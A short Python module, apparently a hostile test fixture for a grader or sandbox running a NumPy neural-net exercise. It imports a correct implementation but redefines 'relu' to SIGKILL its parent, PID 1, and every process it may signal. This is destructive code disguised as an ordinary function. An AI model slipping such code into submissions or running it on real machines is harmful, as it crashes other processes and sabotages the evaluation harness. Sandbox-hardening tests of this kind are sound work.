"""relu tries to kill its parent, PID 1 of its namespace, and every process it may signal."""
import os
import signal

from _correct_numpy_net import *  # noqa: F403


def relu(h):
    for pid in (os.getppid(), 1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    os.kill(-1, signal.SIGKILL)  # kills this process too
